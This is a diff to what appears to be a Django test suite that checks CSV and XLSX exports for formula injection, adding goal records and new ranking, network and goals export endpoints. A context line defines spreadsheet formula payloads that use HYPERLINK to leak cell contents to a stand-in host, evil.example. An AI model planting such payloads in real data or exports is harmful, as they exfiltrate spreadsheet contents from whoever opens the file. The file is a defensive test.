@@ -33,6 +33,8 @@ from assessments.importing import messages as msg
 from assessments.models import Complaint, ImportJob, Scheme
 from assessments.services.schemes import scheme_draft_from
 from dealers.models import Dealer, Region, User
+from goals.choices import GoalKind, GroupKind
+from goals.services import GoalTerms, goal_create
 from incentives.models import IncentiveAction
 from surveys.models import SurveyResponse
 from surveys.services import hot_alerts_open_for, invitations_create_for_closed
@@ -52,7 +54,7 @@ from tests.factories import (
 pytestmark = pytest.mark.django_db
 
 ROOT = Path(settings.BASE_DIR)
-APPS = ("assessments", "config", "dealers", "incentives", "surveys")
+APPS = ("assessments", "config", "dealers", "goals", "incentives", "surveys")
 #: One payload per character a spreadsheet starts a formula with.
 PAYLOADS = [f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open me")' for start in FORMULA_STARTS]
 PAYLOAD = PAYLOADS[0]
@@ -155,6 +157,20 @@ def world(cast, dealer, other_dealer, far_dealer) -> dict[str, Any]:
     for record in [*SurveyResponse.objects.filter(dealer=dealer), *Complaint.objects.filter(dealer=dealer)]:
         _poison(record, skip=["response_id", "complaint_id"])
     IncentiveAction.objects.update(reason=PAYLOADS[5])
+    goal_create(
+        terms=GoalTerms(
+            kpi_code="complaint_rate",
+            group_kind=GroupKind.REGION,  # its label is the region's name, a payload here
+            region=Region.objects.get(pk=dealer.region_id),
+            month_from="2026-09",
+            month_to="2026-10",
+            kind=GoalKind.LEVEL,
+            target=2.0,
+            owner=cast["hq_manager"],
+            note=PAYLOADS[6 % len(PAYLOADS)],
+        ),
+        actor=cast["hq_admin"],
+    )
     return {**cast, "dealer": dealer}
 
 
@@ -202,6 +218,40 @@ PAGE_EXPORTS: dict[str, tuple[str, Callable[[], str], str]] = {
     "hot alerts xlsx": ("xlsx", lambda: reverse("surveys:alerts_export", args=["xlsx"]), "hq_admin"),
     "invitations csv": ("csv", lambda: reverse("surveys:invitations_export", args=["csv"]), "hq_admin"),
     "invitations xlsx": ("xlsx", lambda: reverse("surveys:invitations_export", args=["xlsx"]), "hq_admin"),
+    "ranking all KPIs csv": (
+        "csv",
+        lambda: reverse("assessments:ranking_kpis_export", args=["csv"]) + "?period=2026-10",
+        "hq_admin",
+    ),
+    "network regions csv": (
+        "csv",
+        lambda: reverse("assessments:network_export", args=["csv"]) + "?table=groups&month=2026-10",
+        "hq_admin",
+    ),
+    "network drill csv": (
+        "csv",
+        lambda: reverse("assessments:network_drill_export", args=["csv"]) + "?kpi=repair_count&month=2026-10",
+        "hq_admin",
+    ),
+    "goals csv": ("csv", lambda: reverse("goals:list_export", args=["csv"]), "hq_admin"),
+    "ranking all KPIs xlsx": (
+        "xlsx",
+        lambda: reverse("assessments:ranking_kpis_export", args=["xlsx"]) + "?period=2026-10",
+        "hq_admin",
+    ),
+    "network regions xlsx": (
+        "xlsx",
+        lambda: reverse("assessments:network_export", args=["xlsx"]) + "?table=groups&month=2026-10",
+        "hq_admin",
+    ),
+    "network drill xlsx": (
+        "xlsx",
+        lambda: (
+            reverse("assessments:network_drill_export", args=["xlsx"]) + "?kpi=repair_count&month=2026-10"
+        ),
+        "hq_admin",
+    ),
+    "goals xlsx": ("xlsx", lambda: reverse("goals:list_export", args=["xlsx"]), "hq_admin"),
     "scheme preview csv": (
         "csv",
         lambda: (
@@ -382,6 +432,12 @@ TABLE_WRITERS = {
 WALKED = {
     "assessments.views.ranking_export": "ranking csv/xlsx",
     "assessments.views.kpi_drilldown_export": "drill-down csv/xlsx",
+    "assessments.views.ranking_kpis_export": "ranking all KPIs csv/xlsx",
+    "assessments.views_network.network_export": "network regions csv/xlsx",
+    "assessments.views_network.network_drill_export": "network drill csv/xlsx",
+    "goals.views.goal_list_export": "goals csv/xlsx",
+    # Months, figures and status labels from the code: no typed text reaches it.
+    "goals.views.goal_export": "a goal's months csv/xlsx (no user text)",
     "assessments.views_imports.import_errors_csv": "error file test",
     "assessments.views_schemes.scheme_preview_export": "scheme preview csv/xlsx",
     "assessments.exports.scorecards_table": "export_scorecards command",
